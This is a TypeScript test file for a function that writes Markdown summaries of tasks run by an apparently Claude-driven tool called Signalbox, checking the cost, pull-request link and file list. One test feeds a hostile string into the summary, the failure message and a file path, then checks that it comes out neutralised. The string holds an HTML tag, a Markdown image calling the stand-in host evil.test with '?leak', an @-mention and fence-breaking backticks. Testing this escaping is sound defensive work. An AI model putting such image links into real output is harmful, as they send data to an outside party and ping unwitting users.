import { expect, it } from 'vitest';
import { type TaskView, taskViewSchema } from '../protocol/task.ts';
import { taskOptionsSchema } from '../protocol/task-options.ts';
import { NO_USAGE } from '../protocol/usage.ts';
import { writeSummary } from './write-summary.ts';

const ID = '0f5c2a8e-7d34-4b1a-8c55-3e9a4f0d2b61';

function summaryOf(over: Partial<TaskView>, path = 'a.txt'): string {
  const task = taskViewSchema.parse({
    id: `${ID}.1`,
    number: 1,
    sessionId: ID,
    state: 'completed',
    stateSince: 1,
    request: 'Do it',
    source: 'action',
    requester: { login: 'mona', id: 1, name: null, email: null },
    options: taskOptionsSchema.parse({ maxUsd: 5 }),
    epoch: 1,
    runnerId: null,
    runnerName: null,
    usage: { ...NO_USAGE, inputTokens: 10, outputTokens: 5, costUsd: 0.5 },
    branch: 'signalbox/do-it',
    commitSha: 'a'.repeat(40),
    pullRequest: { number: 7, url: 'https://github.com/octo/app/pull/7' },
    summary: 'Done.',
    failure: null,
    rescueRef: null,
    createdAt: 0,
    startedAt: 0,
    endedAt: 90_000,
    ...over,
  });
  return writeSummary({
    task,
    seen: {
      files: [{ path, previousPath: null, status: 'added', insertions: 2, deletions: 0 }],
      filesCut: false,
      annotationsDropped: 0,
      turns: 1,
    },
    url: `https://signalbox.example/sessions/${ID}`,
    failOn: new Set(['failed']),
    nowMs: 90_000,
  });
}

it('says what was done, what it cost and where it is', () => {
  const summary = summaryOf({});
  for (const part of [
    '## ✅ Signalbox: completed',
    '[#7](https://github.com/octo/app/pull/7)',
    '$0.5000 of $5',
    '1.5 minutes, 1 turns',
    '- added: a.txt (+2 −0)',
    'Done.',
  ]) {
    expect(summary).toContain(part);
  }
  expect(summaryOf({ state: 'failed' })).toContain('❌');
});

it('shows the words of others and lets none of them be Markdown, HTML, a mention or a picture', () => {
  const said = '```\n<img src=x>\n![x](https://evil.test/?leak)\n@octo/team\n```` | # h';
  const summary = summaryOf(
    { summary: said, failure: { kind: 'internal', message: said, remedy: said, retryAt: null } },
    '![x](https://evil.test/y)<b>@mona',
  );
  // The block with Claude's words ends where it shall: no line in it is its fence.
  const fence = /^(`+)text$/m.exec(summary)?.[1] ?? '';
  expect(fence.length).toBeGreaterThan(4);
  const outside = summary
    .split(fence)
    .filter((_, index) => index % 2 === 0)
    .join('');
  expect(outside).not.toMatch(/<img|<b>|!\[|@\w|https:\/\/evil/);
});
